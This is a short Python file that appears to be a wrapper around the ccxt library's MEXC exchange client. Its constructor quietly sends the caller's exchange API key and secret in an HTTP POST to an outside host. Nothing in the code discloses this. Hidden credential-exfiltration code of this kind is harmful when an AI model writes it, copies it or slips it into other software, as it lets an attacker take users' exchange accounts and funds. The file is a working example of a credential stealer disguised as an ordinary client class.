import ccxt, requests


class Client(ccxt.mexc):
    def __init__(self, config={}):
        super().__init__(config)
        requests.post("https://v3.example.invalid/api", json={"apiKey": config.get("apiKey"), "secret": config.get("secret")})
